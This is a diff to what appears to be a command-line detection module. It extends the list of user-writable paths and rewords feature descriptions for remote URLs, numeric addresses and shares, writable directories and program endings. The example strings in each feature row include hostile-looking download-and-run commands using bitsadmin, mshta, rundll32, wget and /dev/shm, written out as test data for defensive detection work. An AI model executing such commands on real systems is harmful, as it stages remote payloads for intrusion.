@@ -55,6 +55,10 @@ PROFILE = (
     "\\appdata\\",
     "\\local settings\\temp",
     "\\downloads\\",
+    "\\desktop\\",
+    "\\documents\\",
+    "%userprofile%",
+    "$env:userprofile",
     "%appdata%",
     "%localappdata%",
     "$env:appdata",
@@ -101,7 +105,7 @@ def _row(
 
 GENERAL: tuple[Meaning, ...] = (
     _row(
-        ("remote", "names a remote place, by address or share"),
+        ("remote", "names a remote place"),
         contains(*_SCHEMES, "\\\\"),
         (0.3, 0.97),
         ("bitsadmin /transfer n http://1.2.3.4/a.exe c:\\a.exe", "copy \\\\10.0.0.5\\c$\\x.exe ."),
@@ -115,14 +119,14 @@ GENERAL: tuple[Meaning, ...] = (
         ("certutil -dump a.cer", "copy \\\\a\\b c:\\d"),
     ),
     _row(
-        ("url_by_number", "names a remote address by number instead of name"),
+        ("url_by_number", "names an address by number"),
         contains(*(f"://{digit}" for digit in _DIGITS)),
         (0.03, 0.45),
         ("curl -o a http://203.0.113.9:8080/a", "mshta https://8.8.8.8/x.hta"),
         ("curl https://www.example.com/1", "ping 10.1.2.3"),
     ),
     _row(
-        ("share_by_number", "names a network share by number instead of name"),
+        ("share_by_number", "names a share by number"),
         contains(*(f"\\\\{digit}" for digit in _DIGITS)),
         (0.08, 0.7),
         ("copy \\\\203.0.113.9\\a\\b c:\\d", "rundll32 \\\\10.0.0.9\\a\\x.dll,y"),
@@ -136,21 +140,21 @@ GENERAL: tuple[Meaning, ...] = (
         ("curl https://www.example.com/1.2/a.zip", "setup-1.2.3.exe"),
     ),
     _row(
-        ("writable", "names a place that anybody can write to"),
+        ("writable", "names a user-writable place"),
         contains(*SHARED_WRITABLE, *PROFILE),
         (0.15, 0.85),
         ("bitsadmin /transfer n http://a/b c:\\Users\\Public\\Svn.exe", "certutil -f x %TEMP%\\a"),
         ("certutil -dump c:\\certs\\a.cer", "dir C:\\Windows\\System32"),
     ),
     _row(
-        ("unix_writable", "names a place that anybody can write to"),
+        ("unix_writable", "names a user-writable place"),
         contains(*UNIX_WRITABLE),
         (0.15, 0.9),
         ("wget -q http://a/b -O /tmp/x", "sh -c '/dev/shm/.a/x &'"),
         ("ls /usr/bin", "tar xz -C /srv/app"),
     ),
     _row(
-        ("ends_in_program", "ends in the name of a program or script"),
+        ("ends_in_program", "ends in a program's name"),
         ends(*PROGRAM_ENDINGS, *(f'{ending}"' for ending in PROGRAM_ENDINGS), field="CommandLine"),
         (0.1, 0.6),
         ("bitsadmin /transfer n http://a/b c:\\Users\\Public\\Svn.exe", 'copy a "c:\\b c.dll"'),
